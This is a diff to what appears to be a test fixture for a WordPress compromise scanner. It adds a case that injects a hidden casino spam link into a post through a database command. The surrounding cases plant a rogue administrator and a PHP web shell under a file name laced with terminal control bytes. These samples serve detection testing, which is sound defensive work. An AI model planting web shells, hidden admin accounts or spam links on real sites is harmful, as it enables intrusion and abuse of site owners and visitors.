@@ -55,6 +55,12 @@ PLANTS = {
         "'a:1:{s:13:\\\"administrator\\\";b:1;}');\" | mariadb -uroot",
         ("administrator evil", "database.administrator", "critical"),
     ),
+    "hidden links": (
+        "echo \"UPDATE portal.wp_posts SET post_content=CONCAT(post_content,'<div style=\\\"display:none\\\">"
+        "<a href=https://x.test>nhà cái casino</a></div>') WHERE ID=5;\""
+        " | mariadb --default-character-set=utf8mb4 -uroot",
+        ("content post 5", "content.hidden-link", "high"),
+    ),
     "name with control bytes": (
         "printf '<?php system($_GET[0]);' > \"$UP/$(printf 'a\\033]0;x\\007\\n.php')\"",
         ("/var/www/portal/wp-content/uploads/a\\x1b]0;x\\x07\\x0a.php", "upload.code", "critical"),
